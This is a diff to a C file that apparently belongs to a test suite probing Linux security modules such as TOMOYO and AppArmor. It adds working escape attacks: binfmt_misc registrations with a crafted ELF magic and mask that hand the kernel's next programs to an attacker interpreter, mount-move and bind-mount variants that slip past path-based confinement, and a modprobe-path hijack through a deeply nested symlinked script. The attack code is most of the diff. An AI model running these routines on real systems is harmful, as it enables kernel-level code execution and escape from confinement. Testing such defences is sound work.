@@ -31,6 +31,7 @@
 #define TOMOYO_LOADER "/sbin/tomoyo-init"
 #define TOMOYO_TRIGGER "/sbin/init"
 #define TOMOYO "/sys/kernel/security/tomoyo/"
+#define BINFMT_FOLDER "/proc/sys/fs/binfmt_misc"
 #define BSET "/proc/sys/kernel/usermodehelper/bset"
 
 static int program = -1;
@@ -525,22 +526,106 @@ static int run_widen(void)
 	return strcmp(was, now) ? 0 : impossible(EPERM, "the sets can only shrink");
 }
 
-/* Whatever the kernel starts next is handed to a program that is open already: flag F. */
-static int run_binfmt(void)
+/* The kernel's programs but for this one, which has a bit in a place of the header that nobody looks at. */
+#define BINFMT_MAGIC "\\x7fELF\\x00\\x00\\x00\\x00\\x00\\x00"
+#define BINFMT_MASK "\\xff\\xff\\xff\\xff\\x00\\x00\\x00\\x00\\x00\\xff"
+
+static const char *prepare_interpreter(void)
 {
+	const char *why = prepare_memfd();
+
+	if (!why && pwrite(program, "\1", 1, 9 /* e_ident */) != 1)
+		why = missing("a program of another kind", errno);
+	return why;
+}
+
+/* Whatever the kernel starts next is handed to a program that is open already: flag F. */
+static int register_format(const char *folder)
+{
+	char path[60], line[300];
 	int err;
 
-	(void)mkdir("binfmt", 0755);
-	if (mount("binfmt_misc", "binfmt", "binfmt_misc", 0, NULL) < 0)
-		return errno == ENODEV
-			       ? impossible(ENODEV,
-					    "CONFIG_BINFMT_MISC=m, and the image has no modules")
-			       : errno;
-	err = write_small("binfmt/register", ":attack:M::\\x7fELF::" ESCAPEE ":F");
+	(void)snprintf(path, sizeof(path), "%s/register", folder);
+	(void)snprintf(line, sizeof(line), ":attack:M::" BINFMT_MAGIC ":" BINFMT_MASK ":%s:F",
+		       program_without_path());
+	err = write_small(path, line);
 	if (err)
 		return err;
-	err = ask_for_module("attack-binfmt");
-	(void)write_small("binfmt/attack", "-1");
+	err = ask_for_module("escapee");
+	(void)snprintf(path, sizeof(path), "%s/attack", folder);
+	(void)write_small(path, "-1");
+	return err;
+}
+
+static int without_binfmt(int err)
+{
+	return err == ENODEV ? impossible(err, "CONFIG_BINFMT_MISC=m, and this image has none")
+			     : err;
+}
+
+static int run_binfmt(void)
+{
+	(void)mkdir("binfmt", 0755);
+	if (mount("binfmt_misc", "binfmt", "binfmt_misc", 0, NULL) < 0)
+		return without_binfmt(errno);
+	return register_format("binfmt");
+}
+
+/* AppArmor is told where it goes, not of what type it is. */
+static int run_binfmt_move(void)
+{
+	int fd = detached_mount("binfmt_misc");
+
+	(void)mkdir("binfmt", 0755);
+	if (fd < 0 || attach_mount(fd, "binfmt") < 0)
+		return without_binfmt(errno);
+	return register_format("binfmt");
+}
+
+/* Where it has to be, and a bind of that folder. */
+static int run_binfmt_bind(void)
+{
+	(void)mkdir("binfmt", 0755);
+	if (mount("binfmt_misc", BINFMT_FOLDER, "binfmt_misc", 0, NULL) < 0)
+		return without_binfmt(errno);
+	if (mount(BINFMT_FOLDER, "binfmt", NULL, MS_BIND, NULL) < 0)
+		return errno;
+	return register_format("binfmt");
+}
+
+/* The same, moved. */
+static int run_binfmt_mount_move(void)
+{
+	(void)mkdir("binfmt", 0755);
+	if (mount("binfmt_misc", BINFMT_FOLDER, "binfmt_misc", 0, NULL) < 0)
+		return without_binfmt(errno);
+	if (mount(BINFMT_FOLDER, "binfmt", NULL, MS_MOVE, NULL) < 0)
+		return errno;
+	return register_format("binfmt");
+}
+
+static int make_escapee(void)
+{
+	return write_script("escapee");
+}
+
+/* A program without a name attaches to nothing. */
+static const char *prepare_deep_program(void)
+{
+	return make_deep(make_escapee);
+}
+
+static int run_modprobe_deep(void)
+{
+	int err = 0;
+
+	if (rename(MODPROBE, MODPROBE ".kept") < 0)
+		return errno;
+	if (symlink("/tmp/modprobe-deep/" DEEP "/escapee", MODPROBE) < 0)
+		err = errno;
+	if (!err)
+		err = ask_for_module("attack-modprobe-deep");
+	(void)rename(MODPROBE ".kept", MODPROBE);
 	return err;
 }
 
@@ -585,6 +670,15 @@ const struct attack helper_attacks[] = {
 	{ "hotplug", "kobject_uevent_env(), by the sysctl", NULL, run_hotplug, 0 },
 	{ "uevent-helper", "kobject_uevent_env(), by sysfs", NULL, run_uevent_helper, 0 },
 	{ "helper-capabilities", "proc_cap_handler()", NULL, run_widen, 0 },
-	{ "binfmt-misc", "load_misc_binary() with an open interpreter", NULL, run_binfmt, WAITS },
+	{ "modprobe-deep", "call_modprobe(): a link to a program whose path is too long",
+	  prepare_deep_program, run_modprobe_deep, WAITS },
+	{ "binfmt-misc", "load_misc_binary() with an open interpreter", prepare_interpreter,
+	  run_binfmt, WAITS },
+	{ "binfmt-move", "load_misc_binary(), registered in a new mount that is moved",
+	  prepare_interpreter, run_binfmt_move, WAITS },
+	{ "binfmt-bind", "load_misc_binary(), registered in a bind of its folder",
+	  prepare_interpreter, run_binfmt_bind, WAITS },
+	{ "binfmt-mount-move", "load_misc_binary(), registered in its folder, moved",
+	  prepare_interpreter, run_binfmt_mount_move, WAITS },
 	{ .name = NULL },
 };
